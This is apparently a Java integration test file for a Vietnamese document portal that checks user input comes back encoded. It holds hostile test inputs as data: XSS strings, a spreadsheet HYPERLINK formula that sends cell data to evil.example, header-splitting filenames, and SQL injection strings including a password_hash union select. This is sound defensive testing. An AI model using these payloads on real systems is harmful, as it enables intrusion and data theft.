package vn.congvan.security;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.user;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;

import java.io.ByteArrayInputStream;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.context.ApplicationContext;
import org.springframework.data.domain.PageRequest;
import org.springframework.http.ContentDisposition;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.mock.web.MockHttpServletResponse;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.test.web.servlet.request.MockHttpServletRequestBuilder;
import vn.congvan.CongvanIntegrationTest;
import vn.congvan.account.AccountManagement;
import vn.congvan.account.Accounts;
import vn.congvan.account.CurrentUser;
import vn.congvan.account.NewAccount;
import vn.congvan.account.Role;
import vn.congvan.attachment.AttachmentKind;
import vn.congvan.attachment.AttachmentView;
import vn.congvan.attachment.Attachments;
import vn.congvan.attachment.NewAttachment;
import vn.congvan.attachment.TestFiles;
import vn.congvan.delivery.DeliveryLedger;
import vn.congvan.dispatch.DispatchCatalog;
import vn.congvan.dispatch.DispatchDrafts;
import vn.congvan.dispatch.DispatchManagement;
import vn.congvan.dispatch.Viewer;
import vn.congvan.dispatch.Viewers;
import vn.congvan.dispatch.Visibility;
import vn.congvan.organization.OrganizationAdministration;
import vn.congvan.organization.UnitSummary;
import vn.congvan.organization.Units;
import vn.congvan.search.DispatchSearch;
import vn.congvan.search.SearchQuery;

/**
 * What people type comes back out as text, never as markup, formula or header: stored script in every name and
 * text the portal shows, reflected script in the search box and error pages, spreadsheet formulas in the ledger
 * export, header splitting through file names, and search input that looks like SQL or full-text operators.
 */
@CongvanIntegrationTest
class InputEncodingIntegrationTests {

    @Autowired
    Viewers viewers;

    private static final String SCRIPT = "<script>alert('xss')</script>";

    private static final String IMG = "<img src=x onerror=alert(1)>";

    @Autowired
    MockMvc mvc;

    @Autowired
    ApplicationContext context;

    @Autowired
    DispatchManagement management;

    @Autowired
    OrganizationAdministration administration;

    @Autowired
    AccountManagement accounts;

    @Autowired
    Attachments attachments;

    @Autowired
    DeliveryLedger ledger;

    @Autowired
    DispatchSearch search;

    @Autowired
    DispatchCatalog catalog;

    @Autowired
    JdbcTemplate jdbc;

    @LocalServerPort
    int port;

    Scenario world;

    @BeforeEach
    void world() {
        world = Scenario.of(context, "xss");
    }

    @ParameterizedTest
    @ValueSource(strings = {"public page", "public list", "home", "inbox", "clerk page", "search"})
    void aSubjectAndBodyWithMarkupAreShownAsText(String page) throws Exception {
        String marker = "xss" + Units.uniqueCode("S").toLowerCase().replace("-", "");
        Long id = management.createDraft(
                new vn.congvan.dispatch.DispatchDraft(
                        vn.congvan.dispatch.DispatchFamily.PARTY,
                        "CV",
                        world.clerk.unitId(),
                        null,
                        "Về việc " + marker + " " + IMG,
                        "Đoạn " + marker + " " + SCRIPT,
                        null,
                        vn.congvan.dispatch.Urgency.NORMAL,
                        Visibility.PUBLIC,
                        null,
                        null,
                        List.of(vn.congvan.dispatch.Recipient.unit("Đơn vị nhận", world.recipientUnit.id())),
                        List.of()),
                world.clerk);
        management.publish(id, null, LocalDate.now(), world.clerk);

        String html = switch (page) {
            case "public page" -> html(get("/tai-lieu-tuyen-truyen/" + id), null);
            case "public list" -> html(get("/tai-lieu-tuyen-truyen"), null);
            case "home" -> html(get("/"), null);
            case "inbox" -> html(get("/hop-thu/" + id), world.recipient);
            case "clerk page" -> html(get("/quan-ly/cong-van/" + id), world.clerk);
            default -> html(get("/tim-kiem").param("q", marker), null);
        };

        assertThat(html)
                .contains(marker)
                .contains("&lt;img src=x onerror=alert(1)&gt;")
                .doesNotContain(IMG)
                .doesNotContain(SCRIPT);
    }

    @Test
    void aUnitNameWithMarkupIsTextOnTheUnitListAndTheLedger() throws Exception {
        UnitSummary ward =
                Units.ward(administration, world.committee, "Đảng ủy phường " + SCRIPT, LocalDate.of(2025, 7, 1));
        Long id = management.createDraft(
                DispatchDrafts.partyDispatch(
                        world.clerk.unitId(), Visibility.RESTRICTED, "Về việc tên đơn vị lạ", ward.id()),
                world.clerk);
        management.publish(id, null, LocalDate.now(), world.clerk);

        // The unit tree shows a branch at a time: ask for the way down to the ward.
        assertThat(html(get("/quan-tri/don-vi").param("mo", ward.id().toString()), world.admin))
                .contains("&lt;script&gt;")
                .doesNotContain(SCRIPT);
        assertThat(html(get("/quan-ly/cong-van/" + id + "/so-theo-doi"), world.clerk))
                .contains("&lt;script&gt;")
                .doesNotContain(SCRIPT);
    }

    @Test
    void aFileTitleWithMarkupIsText() throws Exception {
        Long id = world.draft(Visibility.PUBLIC, "Về việc tiêu đề tệp lạ");
        attachments.attach(
                new NewAttachment(id, "Phụ lục \"><svg onload=alert(2)>", AttachmentKind.APPENDIX, "phu-luc.pdf"),
                new ByteArrayInputStream(TestFiles.pdf(1)));
        management.publish(id, null, LocalDate.now(), world.clerk);

        assertThat(html(get("/tai-lieu-tuyen-truyen/" + id), null))
                .contains("&lt;svg onload=alert(2)&gt;")
                .doesNotContain("<svg onload");
        assertThat(html(get("/quan-ly/cong-van/" + id), world.clerk)).doesNotContain("<svg onload");
    }

    @Test
    void anAccountsFullNameWithMarkupIsTextOnTheAccountListAndInTheHeaderOfItsOwnPages() throws Exception {
        String username = Accounts.uniqueUsername("ten-la");
        accounts.open(new NewAccount(
                username,
                "Cán bộ " + SCRIPT,
                null,
                world.recipientUnit.id(),
                Set.of(Role.MEMBER),
                Accounts.DEMO_PASSWORD));
        CurrentUser self = new CurrentUser(
                null,
                username,
                "{noop}unused",
                "Cán bộ " + SCRIPT,
                world.recipientUnit.id(),
                Set.of(Role.MEMBER),
                true);

        assertThat(html(get("/quan-tri/tai-khoan"), world.admin))
                .contains(username)
                .doesNotContain(SCRIPT);
        assertThat(html(get("/hop-thu"), self)).doesNotContain(SCRIPT);
    }

    @Test
    void aSearchPassageKeepsOnlyItsOwnMarkEvenWhenTheTextCarriesMarkOrTheMarkersItself() throws Exception {
        String marker = "passage" + Units.uniqueCode("P").toLowerCase().replace("-", "");
        Long id = management.createDraft(
                new vn.congvan.dispatch.DispatchDraft(
                        vn.congvan.dispatch.DispatchFamily.PARTY,
                        "CV",
                        world.clerk.unitId(),
                        null,
                        "Về việc đoạn trích",
                        "Nội dung " + marker
                                + " <mark onmouseover=alert(3)>x</mark> \uE000<b onclick=alert(4)>y</b>\uE001 "
                                + marker,
                        null,
                        vn.congvan.dispatch.Urgency.NORMAL,
                        Visibility.PUBLIC,
                        null,
                        null,
                        List.of(vn.congvan.dispatch.Recipient.unit("Đơn vị nhận", world.recipientUnit.id())),
                        List.of()),
                world.clerk);
        management.publish(id, null, LocalDate.now(), world.clerk);

        String html = html(get("/tim-kiem").param("q", marker), null);

        assertThat(html)
                .contains("<mark>" + marker + "</mark>")
                .contains("&lt;mark onmouseover=alert(3)&gt;")
                .doesNotContain("<mark onmouseover")
                .doesNotContain("<b onclick");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"\"><script>alert(5)</script>", "' onfocus='alert(6)", "</textarea><script>alert(7)</script>"})
    void theSearchBoxGivesBackWhatWasTypedAsText(String typed) throws Exception {
        String html = html(get("/tim-kiem").param("q", typed), null);

        assertThat(html).doesNotContain(typed);
        assertThat(html).doesNotContain("<script>alert(");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/tai-lieu-tuyen-truyen/%3Cscript%3Ealert(8)%3C%5Cscript%3E",
                "/tai-lieu-tuyen-truyen?trang=%3Cscript%3Ealert(8)%3C%2Fscript%3E",
                "/tim-kiem?nam=%3Cscript%3Ealert(8)%3C%2Fscript%3E"
            })
    void errorPagesDoNotEchoTheRequest(String path) throws Exception {
        HttpResponse<String> response = new WebClient(port).get(path);

        assertThat(response.statusCode()).isBetween(400, 499);
        // The language link may carry the query string, percent-encoded: text in a URL, never markup.
        assertThat(response.body())
                .doesNotContain("<script>alert(8)")
                .doesNotContain("alert(8)</script>")
                .doesNotContain("<script>alert(8)<\\script>");
    }

    @ParameterizedTest
    @ValueSource(strings = {"=", "+", "-", "@", "\t", "\r"})
    void ledgerExportCellsNeverStartAFormula(String lead) throws Exception {
        String formula = lead + "HYPERLINK(\"http://evil.example/?\"&A1,\"bấm\")";
        UnitSummary ward =
                Units.ward(administration, world.committee, "Đảng ủy phường Công thức", LocalDate.of(2025, 7, 1));
        if (!Character.isISOControl(lead.charAt(0))) {
            ward = administration.editUnit(
                    ward.id(),
                    administration.unitForEditing(ward.id()).version(),
                    new vn.congvan.organization.UnitDetails(formula, null, null, null));
        }
        Long id = management.createDraft(
                DispatchDrafts.partyDispatch(world.clerk.unitId(), Visibility.RESTRICTED, "Về việc xuất sổ", ward.id()),
                world.clerk);
        management.publish(id, null, LocalDate.now(), world.clerk);
        CurrentUser reader =
                new CurrentUser(null, formula, "{noop}unused", "Người đọc", ward.id(), Set.of(Role.MEMBER), true);
        ledger.recordViewed(id, viewers.of(reader));
        ledger.acknowledge(id, viewers.of(reader));

        String csv = perform(get("/quan-ly/cong-van/" + id + "/so-theo-doi.csv"), world.clerk)
                .getContentAsString(StandardCharsets.UTF_8);

        List<List<String>> rows = parseCsv(csv.substring(1));
        assertThat(rows).hasSize(2);
        assertThat(rows.get(1)).contains("'" + formula);
        for (String cell : rows.get(1)) {
            assertThat(cell).as("cell " + cell).doesNotStartWith(lead);
        }
    }

    @Test
    void aFileNameCannotSplitOrExtendTheContentDispositionHeader() throws Exception {
        Long id = world.draft(Visibility.RESTRICTED, "Về việc tên tệp phá tiêu đề");
        String name = "bao\"cao\\\"; filename=evil.html; x=\".pdf";
        AttachmentView file = attachments.attach(
                new NewAttachment(id, "Báo cáo", AttachmentKind.APPENDIX, name),
                new ByteArrayInputStream(TestFiles.pdf(1)));

        MockHttpServletResponse response =
                perform(get("/quan-ly/cong-van/" + id + "/tep/" + file.id() + "/tai-ve"), world.clerk);

        ContentDisposition disposition = ContentDisposition.parse(response.getHeader("Content-Disposition"));
        assertThat(disposition.getType()).isEqualTo("attachment");
        // The stored name is cleaned (FileNames.clean: no folder part, so nothing before the backslash survives);
        // whatever is left travels as one quoted value.
        assertThat(disposition.getFilename()).isEqualTo(file.originalFilename()).contains("filename=evil.html");
        String header = response.getHeader("Content-Disposition");
        String fallback = header.substring(0, header.indexOf("; filename*="));
        assertThat(ContentDisposition.parse(fallback).getFilename())
                .endsWith(".pdf")
                .doesNotContain("\"");
        assertThat(response.getContentType()).isEqualTo("application/pdf");
    }

    @Test
    void aFileNameWithLineBreaksIsRefusedOrServedWithoutThem() throws Exception {
        Long id = world.draft(Visibility.RESTRICTED, "Về việc tên tệp xuống dòng");
        String name = "bao-cao\r\nSet-Cookie: owned=1\r\nX-Evil: 1.pdf";
        AttachmentView file;
        try {
            file = attachments.attach(
                    new NewAttachment(id, "Báo cáo", AttachmentKind.APPENDIX, name),
                    new ByteArrayInputStream(TestFiles.pdf(1)));
        } catch (RuntimeException refused) {
            assertThat(attachments.ofDispatch(id)).isEmpty();
            return;
        }

        HttpResponse<String> response =
                logInAsIssuingClerkAndGet("/quan-ly/cong-van/" + id + "/tep/" + file.id() + "/tai-ve");

        assertThat(response.statusCode()).isEqualTo(200);
        assertThat(response.headers().firstValue("Set-Cookie")).isEmpty();
        assertThat(response.headers().firstValue("X-Evil")).isEmpty();
        assertThat(response.headers().firstValue("Content-Disposition"))
                .hasValueSatisfying(header -> assertThat(header).doesNotContain("\r", "\n"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "'; drop table dispatch; --",
                "' or '1'='1",
                "%",
                "_",
                "%%",
                "\\",
                "\\\\'",
                "!",
                "&",
                "|",
                ":*",
                "()",
                "a:* | !b & (c)",
                "!!(",
                "<->",
                "*",
                "' union select password_hash from account --"
            })
    void searchInputThatLooksLikeSqlOrOperatorsNeitherFailsNorMatchesEverything(String typed) throws Exception {
        long everything = catalog.publicDispatches(PageRequest.of(0, 1)).getTotalElements();

        assertThat(perform(get("/tim-kiem").param("q", typed), null).getStatus())
                .isEqualTo(200);
        long hits = search.search(
                        new SearchQuery(typed, null, null, null, null, null), Viewer.anonymous(), PageRequest.of(0, 1))
                .getTotalElements();

        assertThat(everything).isPositive();
        assertThat(hits).isLessThan(everything);
        assertThat(jdbc.queryForObject("select count(*) from dispatch", Long.class))
                .isPositive();
    }

    /** RFC 4180, as a spreadsheet program reads it. */
    private static List<List<String>> parseCsv(String text) {
        List<List<String>> rows = new ArrayList<>();
        List<String> row = new ArrayList<>();
        StringBuilder cell = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < text.length(); i++) {
            char c = text.charAt(i);
            if (quoted) {
                if (c == '"' && i + 1 < text.length() && text.charAt(i + 1) == '"') {
                    cell.append('"');
                    i++;
                } else if (c == '"') {
                    quoted = false;
                } else {
                    cell.append(c);
                }
            } else if (c == '"') {
                quoted = true;
            } else if (c == ',') {
                row.add(cell.toString());
                cell.setLength(0);
            } else if (c == '\r' && i + 1 < text.length() && text.charAt(i + 1) == '\n') {
                row.add(cell.toString());
                cell.setLength(0);
                rows.add(row);
                row = new ArrayList<>();
                i++;
            } else {
                cell.append(c);
            }
        }
        return rows;
    }

    private HttpResponse<String> logInAsIssuingClerkAndGet(String path) throws Exception {
        WebClient browser = new WebClient(port);
        assertThat(browser.logIn(world.clerkUsername, Accounts.DEMO_PASSWORD).statusCode())
                .isEqualTo(302);
        return browser.get(path);
    }

    private String html(MockHttpServletRequestBuilder request, CurrentUser who) throws Exception {
        MockHttpServletResponse response = perform(request, who);
        assertThat(response.getStatus()).as(request.toString()).isEqualTo(200);
        return response.getContentAsString(StandardCharsets.UTF_8);
    }

    private MockHttpServletResponse perform(MockHttpServletRequestBuilder request, CurrentUser who) throws Exception {
        if (who != null) {
            request.with(user(who));
        }
        return mvc.perform(request).andReturn().getResponse();
    }
}
